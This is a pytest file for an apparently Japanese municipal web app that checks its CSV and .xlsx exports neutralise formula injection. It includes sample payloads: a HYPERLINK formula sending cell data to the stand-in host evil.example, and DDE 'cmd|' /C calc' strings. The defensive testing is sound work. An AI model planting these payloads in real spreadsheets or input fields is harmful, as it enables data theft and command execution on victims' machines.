"""Every CSV and .xlsx export neutralises formula-looking cells, through one shared writer
(``kiban.kit.export``) (issue #10, item 2).

A walk over ``src/`` fails on any ``csv.writer(`` or ``Workbook(`` outside ``kit/export.py``, so
a new export cannot bypass it; HTTP tests put formula payloads where people can type them (a
staff member's name, a system's name) and read the files back as a spreadsheet would.
"""

from __future__ import annotations

import csv
import io
import re
from datetime import date, timedelta
from pathlib import Path

import openpyxl

from kiban.kit.export import attachment, csv_bytes, neutralise, workbook, xlsx_bytes
from kiban.modules.catalog.models import CatalogService
from tests.factories import AICHI, ICHINOMIYA

SRC = Path(__file__).resolve().parents[2] / "src" / "kiban"
SHARED_WRITER = SRC / "kit" / "export.py"
BYPASS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(|\bxlsxwriter\b")

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


def _bypasses() -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for path in sorted(SRC.rglob("*.py")):
        if path == SHARED_WRITER:
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            if BYPASS.search(line) and not line.lstrip().startswith("#"):
                found.setdefault(str(path.relative_to(SRC)), []).append(f"{number}: {line.strip()}")
    return found


def test_no_export_writes_csv_or_xlsx_around_the_shared_writer() -> None:
    offenders = _bypasses()
    assert offenders == {}, ("write CSV with kiban.kit.export.csv_bytes and .xlsx with workbook()/xlsx_bytes(); "
                             f"found: {offenders}")


def test_the_walk_would_see_a_new_bypass() -> None:
    assert BYPASS.search("    writer = csv.writer(buffer)")
    assert BYPASS.search("book = Workbook()")
    assert not BYPASS.search("openpyxl.load_workbook(io.BytesIO(data))")  # reading is fine


def _cells(data: bytes) -> list[list[str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_csv_cells_that_could_run_are_text_and_numbers_stay_numbers() -> None:
    rows = _cells(csv_bytes([[p, -1500, 0.5] for p in PAYLOADS], header=["=見出し", "金額", "割合"]))
    assert rows[0][0] == "'=見出し"
    for payload, row in zip(PAYLOADS, rows[1:], strict=True):
        assert row == ["'" + payload, "-1500", "0.5"]
    assert neutralise("普通の文字") == "普通の文字" and neutralise(None) == ""


def test_xlsx_cells_are_neutralised_however_they_were_written() -> None:
    book = workbook()
    sheet = book.active
    sheet["A1"] = PAYLOADS[0]  # openpyxl takes this for a formula
    sheet.append(PAYLOADS[1:] + [-1500])
    second = book.create_sheet("説明")
    second.cell(row=1, column=1, value="@cmd")
    read = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(book)))
    values = [c.value for row in read.worksheets[0].iter_rows() for c in row if c.value is not None]
    # (XML stores a carriage return as a line feed; the apostrophe still comes first)
    assert values == ["'" + p.replace("\r", "\n") for p in PAYLOADS] + [-1500]
    assert all(c.data_type != "f" for row in read.worksheets[0].iter_rows() for c in row)
    assert read.worksheets[1]["A1"].value == "'@cmd"


def test_a_download_names_its_file_in_any_characters() -> None:
    response = attachment(b"x", "負担金一覧_電子申請.csv")
    assert response.headers["content-disposition"].startswith("attachment; filename*=UTF-8''%E8%B2%A0")
    assert response.media_type.startswith("text/csv")


# -- over HTTP -----------------------------------------------------------------------------------

async def test_a_formula_in_a_staff_name_is_text_in_the_audit_csv(staff) -> None:
    payload = PAYLOADS[0]
    await staff(ICHINOMIYA, "staff", name=payload)  # signing in is recorded under the person's name
    admin = await staff(ICHINOMIYA, "admin", name="=1+2")
    response = await admin.client.get(f"/t/{ICHINOMIYA}/audit.csv")
    assert response.status_code == 200
    rows = _cells(response.content)
    actors = {row[2] for row in rows[1:]}
    assert "'" + payload in actors and "'=1+2" in actors
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


async def test_a_formula_in_a_system_name_is_text_in_fee_schedule_and_statement_csvs(staff, session) -> None:
    item = await session.get(CatalogService, "aichi-e-shinsei")
    item.name = "=cmd|' /C calc'!A0"
    await session.commit()
    aichi = await staff(AICHI, "admin")
    consortium = f"/t/{AICHI}/consortia/aichi-e-gov"
    decided = await aichi.client.post(f"{consortium}/schedules", data={
        "service": "aichi-e-shinsei", "amount": "10,000,000", "kind": "weighted", "ratio": "1.5",
        "equal_percent": "30", "rest": "weighted", "subsidy_percent": "0", "prefecture_share": "",
        "fiscal_year": "2026", "due_on": (date.today() + timedelta(days=30)).isoformat(), "csrf_token": aichi.csrf})
    assert decided.status_code == 303, decided.text[:500]
    schedule_url = decided.headers["location"]
    schedule_id = schedule_url.rsplit("/", 1)[1]

    files = {"schedule": (await aichi.client.get(f"{schedule_url}.csv")).content}
    ichinomiya = await staff(ICHINOMIYA, "admin")
    statement = await ichinomiya.client.get(f"/t/{ICHINOMIYA}/statements/{schedule_id}.csv")
    assert statement.status_code == 200
    files["statement"] = statement.content
    for name, data in files.items():
        cells = [cell for row in _cells(data) for cell in row]
        assert "'=cmd|' /C calc'!A0" in cells, name
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in cells), name
        assert not any(cell.startswith("-") and not re.fullmatch(r"-\d+", cell) for cell in cells), name
